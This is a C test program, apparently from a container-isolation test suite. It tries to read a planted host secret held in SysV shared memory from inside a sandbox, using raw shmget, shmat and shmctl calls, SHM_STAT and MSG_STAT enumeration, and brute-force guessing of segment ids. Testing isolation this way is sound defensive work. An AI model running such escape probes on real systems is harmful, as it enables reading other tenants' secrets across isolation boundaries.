// Host SysV IPC objects: the driver made a world-readable (0644) shared
// memory segment holding the token. A container in its own IPC namespace
// could never name it. Try it by key (shmget, emulated) and by id (shmat
// passes natively with any id), and enumerate with SHM_STAT / MSG_STAT.
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/shm.h>

#include "attack.h"

int main(void) {
  announce();
  long key = host_num("ESC_SHM_KEY"), id = host_num("ESC_SHM_ID");
  long got = step("shmget_host_key", RAW3(SYS_shmget, key, 0, 0));
  if (got >= 0) {
    long p = RAW3(SYS_shmat, got, 0, SHM_RDONLY);
    if (p > 0) out("DATA shmget_host_key %.40s\n", (char*)p);
  }
  long p = step("shmat_host_id", RAW3(SYS_shmat, id, 0, SHM_RDONLY));
  if (p > 0 || p < -4096) out("DATA shmat_host_id %.40s\n", (char*)p);
  struct shmid_ds ds;
  step("shmctl_ipc_stat_host", RAW3(SYS_shmctl, id, IPC_STAT, &ds));
  long found = 0;
  for (long idx = 0; idx < 64; ++idx) {
    long sid = RAW3(SYS_shmctl, idx, SHM_STAT, &ds);
    if (sid >= 0) {
      ++found;
      long q = RAW3(SYS_shmat, sid, 0, SHM_RDONLY);
      if (q > 0 || q < -4096) out("DATA shm_enum %.40s\n", (char*)q);
    }
  }
  step("shm_stat_enumerated", found);
  // No id given: guess. Kernel ids are seq * 32768 + index, both small.
  long guessed = 0;
  for (long seq = 0; seq < 64; ++seq)
    for (long idx = 0; idx < 256; ++idx) {
      long q = RAW3(SYS_shmat, seq * 32768 + idx, 0, SHM_RDONLY);
      if (q > 0 || q < -4096) {
        ++guessed;
        if (strncmp((char*)q, "LBSECRET", 8) == 0) out("DATA shm_guess %.40s\n", (char*)q);
        RAW1(SYS_shmdt, q);
      }
    }
  step("shm_ids_guessed", guessed);
  struct msqid_ds mds;
  found = 0;
  for (long idx = 0; idx < 64; ++idx)
    if (RAW3(SYS_msgctl, idx, MSG_STAT, &mds) >= 0) ++found;
  step("msg_stat_enumerated", found);
  return done();
}
